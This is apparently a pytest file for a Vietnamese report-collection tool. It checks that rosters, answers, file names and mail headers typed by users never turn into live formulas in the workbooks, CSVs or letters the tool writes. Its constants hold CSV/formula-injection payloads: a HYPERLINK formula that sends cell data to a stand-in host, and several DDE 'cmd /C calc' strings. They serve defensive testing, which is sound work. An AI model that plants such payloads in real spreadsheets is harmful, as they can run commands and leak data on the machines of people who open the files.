"""Nothing a unit, a mail sender or a roster typed runs as a formula in anything htsd writes.

One collection is run end to end with hostile words everywhere a person types: the office's
settings (`htsd init`), the roster (names, groups, e-mail addresses, telephones), the units'
answers and notes (typed in LibreOffice), the names of the files they send, and the sender and
subject of a mail (`htsd collect`). Then every cell of every workbook htsd wrote is scanned: the
only formulas are the form's own (formulas.py), text that would read as a formula is a string
cell with the quote prefix, and every CSV field htsd wrote is safe to open in Excel.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import urllib.parse
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from htsd_cli.cli import app
from htsd_cli.writing.cellsafe import FORMULA_STARTS, from_csv, risky, to_csv

from .conftest import full_values

runner = CliRunner()
LINK = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (
    LINK,
    DDE,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
)
# code, name, type, group, e-mail, telephone: the roster as a clerk typed it (every cell text)
UNITS = (
    ("MN01", LINK, "mam_non", DDE, "=1+1@ke-xau.example", "+84 =1+1"),
    ("TH01", "+Trường tiểu học " + DDE, "tieu_hoc", "-Nhóm " + DDE, "-x@ke-xau.example", "-0902"),
    ("THCS01", "@SUM(1+1) Trường THCS", "thcs", "@Nhóm", "+x@ke-xau.example", "@0903"),
    ("TTHTCD01", "＝1+1 Trung tâm HTCĐ", "tthtcd", LINK, "", ""),
    ("UBP01", "-UBND phường " + LINK, "ubnd_phuong", "+Phường", "@ke-xau.example", ""),
)
FILE_NAMES = {"MN01": "=HYPERLINK(1).xlsx", "TH01": "+cmd.xlsx", "THCS01": "-2+3.xlsx"}
MAILED = "TTHTCD01"  # its return comes by mail, under a hostile subject, from a hostile sender
SUBJECT = LINK
SENDER = "=2+2@ke-xau.example"  # no unit's address: the file is known by its stamp


def _cli(*args: str) -> Any:
    result = runner.invoke(app, list(args))
    assert "Traceback" not in result.output and "ngoài dự kiến" not in result.output
    return result


def _answers(form: Any, unit_type: str, code: str) -> dict[str, object]:
    """A unit's return: every row it answers, with hostile words in every text it may type;
    THCS01 also types words where figures go (an invalid return, to be reminded and annotated)."""
    values = full_values(form, unit_type=unit_type)
    words = iter(HOSTILE * 20)
    for ind in form.indicators:
        if ind.id in values and ind.kind == "text":
            values[ind.id] = next(words)
        if ind.id in values:
            values[ind.note_id] = next(words)
    for part in form.texts:
        values[part.id] = next(words)
    if code == "THCS01":
        numeric = [i.id for i in form.indicators if i.numeric and i.id in values]
        values[numeric[0]] = DDE
        values[numeric[1]] = "@SUM(1+1)"
    return values


@pytest.fixture(scope="module")
def collection(tmp_path_factory, form, lo_edit) -> Path:
    """A working folder taken through init → roster → template → returns (LibreOffice) → collect
    → aggregate → status --out --remind → validate --annotate, with hostile words throughout."""
    from .test_collect import Letter, part

    root = tmp_path_factory.mktemp("doc-hai")
    work = root / "dot"
    result = _cli(
        "init", str(work), "--form", "htsd-2022", "--nam", "2022", "--co-quan", LINK, "--chu-quan", "",
        "--viet-tat", "PGD", f"--dia-danh={DDE}", "--noi-nhan=-" + DDE, "--nguoi-ky=+Lê " + DDE,
        "--chuc-vu", "@TRƯỞNG PHÒNG",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    # the clerk types the roster (every cell text, as Excel keeps what is typed after ')
    roster = work / "danh-sach-don-vi.xlsx"
    shutil.copy2(roster, root / "danh-sach-htsd-ghi.xlsx")  # as init wrote it, to be scanned
    wb = openpyxl.load_workbook(roster)
    for r, row in enumerate(UNITS, start=2):
        for c, value in enumerate(row, start=1):
            cell = wb["Danh sách"].cell(row=r, column=c)
            cell.value = value
            cell.data_type = "s"
    wb.save(roster)
    (work / "loi-van.md").write_text(
        "\n".join(f"# {t.heading}\n\n{LINK}\n" for t in form.texts), encoding="utf-8"
    )
    # the 2022 sample form, issued again past its deadline on purpose
    assert _cli("template", "-c", str(work / "htsd.toml"), "--van-phat").exit_code == 0
    issued = {p.name.split("-")[0].upper(): p for p in (work / "bieu-mau").glob("*.xlsx")}
    types = {code: kind for code, _, kind, *_ in UNITS}
    mail_box = root / "gui-qua-thu"
    mail_box.mkdir()
    jobs = [
        {
            "open": str(issued[code]),
            "ops": [["fill", _answers(form, types[code], code)]],
            "save": [str(work / "bao-cao-ve" / FILE_NAMES.get(code, "tra-ve.xlsx"))]
            if code != MAILED
            else [str(mail_box / "tra-ve.xlsx")],
        }
        for code in (*FILE_NAMES, MAILED)
    ]
    lo_edit(jobs)
    attachment = f"filename*=UTF-8''{urllib.parse.quote(DDE + '.xlsx', safe='')}".encode()
    letter = Letter(
        "ke-xau", SENDER, SUBJECT, dt.datetime(2022, 10, 5, 9, tzinfo=dt.UTC),
        parts=[part(attachment, (mail_box / "tra-ve.xlsx").read_bytes())],
    )  # fmt: skip
    (mail_box / "thu.eml").write_bytes(letter.mime(received=True))
    (mail_box / "tra-ve.xlsx").unlink()
    config = str(work / "htsd.toml")
    result = _cli("collect", str(mail_box), "-c", config)
    assert result.exit_code == 0, result.output
    result = _cli("aggregate", "-c", config)
    assert result.exit_code == 0, result.output
    result = _cli(
        "status", "-c", config, "--as-of", "12/10/2022", "--out", str(work / "tinh-hinh.xlsx"),
        "--remind", str(work / "nhac-nho"),
    )  # fmt: skip
    assert result.exit_code in (0, 1), result.output
    result = _cli(
        "validate", "-c", config, str(work / "bao-cao-ve"), "--annotate", str(work / "can-sua")
    )
    assert result.exit_code == 1, result.output  # THCS01's words where figures go
    return work


# --- the scan -------------------------------------------------------------------------------------


def _cells(path: Path) -> dict[tuple[str, str], Any]:
    wb = openpyxl.load_workbook(path)
    return {
        (ws.title, c.coordinate): c for ws in wb.worksheets for row in ws.iter_rows() for c in row
    }


def _formulas(path: Path) -> dict[tuple[str, str], str]:
    return {k: str(c.value) for k, c in _cells(path).items() if c.data_type == "f"}


def _unsafe_text(path: Path, sheets: set[str] | None = None) -> list[tuple[str, str, str]]:
    """Text cells that would read as a formula and lack the quote prefix."""
    return [
        (sheet, ref, c.value)
        for (sheet, ref), c in _cells(path).items()
        if (sheets is None or sheet in sheets)
        and c.data_type != "f"
        and isinstance(c.value, str)
        and risky(c.value)
        and not c.quotePrefix
    ]


def _texts(path: Path) -> set[str]:
    return {c.value for c in _cells(path).values() if isinstance(c.value, str)}


def test_no_formula_in_what_htsd_writes_but_the_forms_own(collection, form):
    from htsd_cli.base.textnorm import slug
    from htsd_cli.campaign.config import load_config
    from htsd_cli.template import build_template

    work = collection
    outputs = [
        work / "tong-hop" / "tong-hop.xlsx",
        work / "tinh-hinh.xlsx",
        work / "nhac-nho" / "nhac-nho.xlsx",
        work.parent / "danh-sach-htsd-ghi.xlsx",
    ]
    for path in outputs:
        assert _formulas(path) == {}, path.name
        assert _unsafe_text(path) == [], path.name
    # the issued forms: the form's own formulas, exactly those of a form with no roster text
    config = load_config(work / "htsd.toml")
    for code, _, kind, *_ in UNITS:
        (path,) = (work / "bieu-mau").glob(f"{code.lower()}-*.xlsx")
        clean = work / f"sach-{code}.xlsx"
        clean.write_bytes(build_template(form, config, False, kind))
        assert _formulas(path) == _formulas(clean) != {}
        assert _unsafe_text(path) == []
        clean.unlink()
    # annotated copies: the unit's own cells as they were, htsd's list of findings safe
    copies = sorted((work / "can-sua").glob("*.xlsx"))
    assert copies
    sources = {f"{slug(p.stem)}-can-sua.xlsx": p for p in (work / "bao-cao-ve").glob("*.xlsx")}
    for copy in copies:
        assert _formulas(copy) == _formulas(sources[copy.name])
        assert _unsafe_text(copy, {"Lỗi cần sửa"}) == []


def test_the_hostile_words_are_there_as_typed(collection):
    """The scan means something: the words are in the outputs, as text, whole."""
    work = collection
    names = {name.strip() for _, name, *_ in UNITS}
    status = _texts(work / "tinh-hinh.xlsx")
    assert names <= status and set(FILE_NAMES.values()) <= status
    summary = openpyxl.load_workbook(work / "tong-hop" / "tong-hop.xlsx")
    groups = {str(c.value) for c in summary["Theo nhóm"][1]}
    assert {DDE, "-Nhóm " + DDE, LINK} <= groups  # the groups of the returns counted
    assert LINK.upper() in _texts(work / "tong-hop" / "tong-hop.xlsx")  # the office's name
    reminders = _texts(work / "nhac-nho" / "nhac-nho.xlsx")
    assert {"+x@ke-xau.example", "@0903", "@ke-xau.example"} <= reminders  # THCS01, UBP01
    issued = openpyxl.load_workbook(next((work / "bieu-mau").glob("mn01-*.xlsx")))
    assert issued.worksheets[0]["A1"].value == LINK.upper()
    annotated = " ".join(_texts(next((work / "can-sua").glob("*.xlsx"))))
    assert DDE in annotated


def test_the_receipts_book_opens_safely_and_reads_back_as_written(collection):
    from htsd_cli.intake.receipts import load_receipts

    book = collection / "so-nhan.csv"
    rows = list(csv.reader(io.StringIO(book.read_text(encoding="utf-8-sig"))))
    assert rows[0][:2] == ["tep", "ngay_nhan"] and len(rows) == 2
    assert [f for row in rows for f in row if f[:1] in FORMULA_STARTS] == []
    line = dict(zip(rows[0], rows[1], strict=True))
    assert from_csv(line["tieu_de"]) == SUBJECT and from_csv(line["nguoi_gui"]) == SENDER
    saved = from_csv(line["tep"])
    assert (collection / "bao-cao-ve" / saved).is_file()
    assert saved.lower() in load_receipts(book)


def test_a_book_line_htsd_wrote_reads_back_whatever_its_first_character(tmp_path):
    """A file name beginning with '-', '=' or an apostrophe, written to the book by collect,
    is found again by status and by the next collect."""
    from htsd_cli.collect import Book
    from htsd_cli.intake.mail import Mail
    from htsd_cli.intake.receipts import load_receipts

    names = ["-2+3.xlsx", "=1+1.xlsx", "@a.xlsx", "'=x.xlsx", "''-y.xlsx", "'z.xlsx", "b.xlsx"]
    book = Book(tmp_path / "so-nhan.csv")
    when = dt.datetime(2022, 10, 5, 9, 30)
    for name in names:
        book.add(name, Mail("thư", "-a@b.vn", "", "@x", when, "máy chủ"))
    book.write()
    assert sorted(load_receipts(tmp_path / "so-nhan.csv")) == sorted(n.lower() for n in names)
    again = Book(tmp_path / "so-nhan.csv")
    assert all(again.has(n) for n in names)
    assert [to_csv(n) for n in names][:4] == ["'-2+3.xlsx", "'=1+1.xlsx", "'@a.xlsx", "''=x.xlsx"]


def test_the_reminder_letter_holds_no_field_and_the_messages_are_text(collection):
    """Word runs no formula typed as text, but a field code (DDE) would: the letter has none
    but page numbers. The messages are plain text."""
    letter = collection / "nhac-nho" / "cong-van-don-doc.docx"
    with zipfile.ZipFile(letter) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".xml")).decode()
    import re

    fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", xml) + re.findall(r'w:instr="([^"]*)"', xml)
    assert {f.strip().split(" ")[0] for f in fields} <= {"PAGE", "NUMPAGES"}
    messages = (collection / "nhac-nho" / "tin-nhan.txt").read_text(encoding="utf-8-sig")
    assert "UBND phường" in messages


def test_libreoffice_shows_the_words_as_typed(collection, soffice, tmp_path):
    """Opened in LibreOffice (converted to CSV), the status table holds the names and file
    names as typed, not what a formula would make of them."""
    (converted,) = soffice(
        [collection / "tinh-hinh.xlsx"], "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path
    )
    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
    shown = {field for row in rows for field in row}
    for _, name, *_ in UNITS:
        assert name.strip() in shown, name
    for name in FILE_NAMES.values():
        assert name in shown
    assert "Bấm vào đây" not in shown and "2" not in shown  # no formula was worked out
